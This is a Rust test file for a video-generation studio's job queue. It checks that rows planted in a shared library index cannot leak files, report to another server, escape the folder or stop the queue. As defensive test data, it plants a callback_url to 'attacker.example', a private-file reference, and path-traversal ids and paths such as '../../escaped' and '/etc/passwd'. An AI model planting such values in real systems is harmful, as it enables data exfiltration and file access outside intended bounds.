//! The library's own files are input (issue 12): a folder that is synced or shared can hold rows
//! planted by someone else. A planted job may not send the person's pictures or files elsewhere,
//! may not have Kling report to another server, and may not stop the queue.

use kling_api::{ClientConfig, Credentials, KlingClient, RetryPolicy, TextToVideoRequest};
use kling_sim::{Sim, SimConfig};
use std::sync::Arc;
use std::time::Duration;
use studio::{Engine, EngineConfig, JobState, Library, NewJob};

const AK: &str = "planted-ak";
const SK: &str = "planted-sk";

fn engine(sim: &Sim, library: &Arc<Library>) -> Engine {
    let mut config = ClientConfig::new(sim.url(), Credentials::new(AK, SK));
    config.retry = RetryPolicy { max_retries: 1, base_delay: Duration::from_millis(5), max_delay: Duration::from_millis(10) };
    Engine::new(library.clone(), KlingClient::new(config).unwrap(), EngineConfig { lease: Duration::from_millis(300), ..EngineConfig::fast() })
}

fn index(root: &std::path::Path) -> rusqlite::Connection {
    rusqlite::Connection::open(root.join(".kling-studio/index.sqlite")).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn planted_job_rows_send_nothing_of_theirs_and_stop_nothing() {
    let sim = Sim::start(SimConfig::fast(AK, SK)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Arc::new(Library::open(&root).unwrap());
    // A private picture outside the library that a planted row points at.
    let private = dir.path().join("private.png");
    image::RgbImage::from_pixel(400, 400, image::Rgb([9, 9, 9])).save(&private).unwrap();

    let engine = engine(&sim, &library);
    let hooked = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("a hooked clip") }).unwrap();
    let stolen = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("a stolen picture") }).unwrap();
    let honest = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("an honest clip") }).unwrap();
    {
        let db = index(&root);
        // A callback to someone else's server, planted into a stored request.
        let request: String = db.query_row("SELECT request FROM jobs WHERE id = ?1", [&hooked.id], |r| r.get(0)).unwrap();
        let planted = request.replace(r#""prompt":"a hooked clip""#, r#""prompt":"a hooked clip","callback_url":"https://attacker.example/hook""#);
        assert_ne!(planted, request);
        db.execute("UPDATE jobs SET request = ?2 WHERE id = ?1", [&hooked.id, &planted]).unwrap();
        // An animation whose start frame is a file outside the library.
        let animate = format!(r#"{{"schema":2,"kind":"image2video","request":{{"model_name":"kling-v1"}},"image":{:?}}}"#, private.display().to_string());
        db.execute("UPDATE jobs SET kind = 'image2video', request = ?2, image_ref = ?3 WHERE id = ?1", [&stolen.id, &animate, &private.display().to_string()]).unwrap();
        // A row whose id would name files elsewhere.
        db.execute(
            "INSERT INTO jobs (id, kind, state, request, created_at, updated_at) SELECT '../../escaped', kind, 'queued', request, created_at, updated_at FROM jobs WHERE id = ?1",
            [&honest.id],
        )
        .unwrap();
    }

    let ids = [hooked.id.clone(), honest.id.clone()];
    let jobs = tokio::time::timeout(Duration::from_secs(30), engine.run_until_finished(&ids)).await.expect("the queue is not stopped by planted rows").unwrap();
    let state = |id: &str| jobs.iter().find(|j| j.id == id).map(|j| j.state);
    assert_eq!(state(&hooked.id), Some(JobState::Done), "the hooked job runs, without its hook");
    assert_eq!(state(&honest.id), Some(JobState::Done));
    let creates: Vec<serde_json::Value> = sim.requests().into_iter().filter(|r| r.method == "POST").filter_map(|r| r.body).collect();
    assert!(creates.iter().all(|b| b.get("callback_url").is_none()), "no callback_url went out: {creates:?}");
    assert!(creates.iter().all(|b| b.get("image").is_none()), "the private picture was not uploaded");
    assert_eq!(creates.len(), 2, "the planted animation and the escaped id sent nothing");
    let db = index(&root);
    let (stolen_state, stolen_error): (String, String) =
        db.query_row("SELECT state, last_error FROM jobs WHERE id = ?1", [&stolen.id], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    assert_eq!(stolen_state, "failed");
    assert!(stolen_error.contains("unreadable") && stolen_error.contains("not a library input"), "{stolen_error}");
    let escaped: String = db.query_row("SELECT state FROM jobs WHERE id = '../../escaped'", [], |r| r.get(0)).unwrap();
    assert_eq!(escaped, "failed", "set aside, never run");
    assert!(!dir.path().join("escaped-0.part").exists() && !root.join("escaped-0.part").exists());
    // The queue panel lists the readable jobs, not the planted one.
    assert!(engine.jobs(50).unwrap().iter().all(|j| j.id != "../../escaped" && j.id != stolen.id));
    let asked = engine.job(&stolen.id).expect_err("the planted job is not read as a job");
    assert!(asked.to_string().contains("not a library input"), "{asked}");
}

/// A stored job listing more results than a task makes (here three for one clip) fetches none
/// of them: at most 9 pictures or 1 video per task (issue 12, item 3).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_job_with_more_results_than_a_task_makes_fetches_none() {
    let sim = Sim::start(SimConfig::fast(AK, SK)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Arc::new(Library::open(&root).unwrap());
    let engine = engine(&sim, &library);
    let job = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("three clips from one task") }).unwrap();
    let links: Vec<String> = (0..3).map(|i| format!("{}/media/planted/{i}.mp4", sim.url())).collect();
    index(&root)
        .execute(
            "UPDATE jobs SET state = 'downloading', task_id = '860000000000000001', result_urls = ?2 WHERE id = ?1",
            [&job.id, &serde_json::to_string(&links).unwrap()],
        )
        .unwrap();

    let jobs = tokio::time::timeout(Duration::from_secs(30), engine.run_until_finished(std::slice::from_ref(&job.id))).await.expect("ends in time").unwrap();
    assert_eq!(jobs[0].state, JobState::Failed);
    let shown = jobs[0].last_error.clone().unwrap_or_default();
    assert!(shown.contains("the task lists 3 results, but a task makes at most 1 video; nothing was downloaded"), "{shown}");
    assert_eq!(jobs[0].last_error_code, Some(kling_api::ErrorCode::Malformed));
    assert!(sim.requests().iter().all(|r| !r.path.starts_with("/media")), "no link was fetched");
    assert!(library.query(&Default::default()).unwrap().items.is_empty());
}

#[test]
fn library_paths_from_its_own_files_stay_inside_it() {
    let dir = tempfile::tempdir().unwrap();
    let library = Library::open(dir.path()).unwrap();
    for planted in ["/etc/passwd", "../outside.png", "2026-11/../../outside.png", "", "a//b"] {
        let path = library.absolute(planted);
        assert!(path.starts_with(dir.path()) && !path.exists(), "{planted:?} → {}", path.display());
    }
    assert_eq!(library.absolute("2026-11/a_1.png"), dir.path().join("2026-11/a_1.png"));
}
